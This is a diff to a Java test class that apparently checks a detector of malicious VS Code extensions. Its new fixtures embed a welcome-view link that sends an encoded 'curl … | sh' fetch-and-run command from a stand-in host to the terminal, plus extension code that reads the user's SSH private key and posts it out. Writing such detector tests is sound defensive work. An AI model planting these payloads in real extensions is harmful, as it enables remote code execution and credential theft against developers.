@@ -108,18 +108,25 @@ class WaysOfAttackTest {
     }
 
     @Test
-    void a_call_without_arguments_and_a_broken_link_hide_nothing() throws IOException {
-        String link = "[Go](command:workbench.action.terminal.sendSequence?%zz)";
-        Map<String, String> files = Map.of(
-                "package.json",
-                MANIFEST.replace(
-                        "{\"publisher\"",
-                        "{\"contributes\": {\"viewsWelcome\": [{\"view\": \"v\", \"contents\": \"" + link
-                                + "\"}], \"configurationDefaults\": {\"http.proxy\": \"http://192.0.2.7:8080\"}}, \"publisher\""),
-                "extension.js",
-                MODULES + atStart("vscode.workspace.getConfiguration('terminal.integrated').update();"));
+    void a_broken_link_hides_none_behind_it() throws IOException {
+        String typed = "command:workbench.action.terminal.sendSequence?";
+        String links = "[a](" + typed + "%zz) [b](" + typed + "curl%20-s%20https%3A%2F%2Ffar.example%2Fa%20%7C%20sh)";
+        String manifest = MANIFEST.replaceFirst(
+                "\\{", "{\"contributes\": {\"viewsWelcome\": [{\"view\": \"v\", \"contents\": \"" + links + "\"}]}, ");
 
-        assertThat(isAccused(files)).isTrue();
+        assertThat(isAccused(Map.of("package.json", manifest, "extension.js", atStart(""))))
+                .isTrue();
+    }
+
+    @Test
+    void an_update_without_a_name_hides_nothing_behind_it() throws IOException {
+        String program = MODULES
+                + POSTS
+                + atStart("vscode.workspace.getConfiguration('a').update();\n"
+                        + "post(fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8'));");
+
+        assertThat(isAccused(Map.of("package.json", MANIFEST, "extension.js", program)))
+                .isTrue();
     }
 
     private static String atStart(String body) {
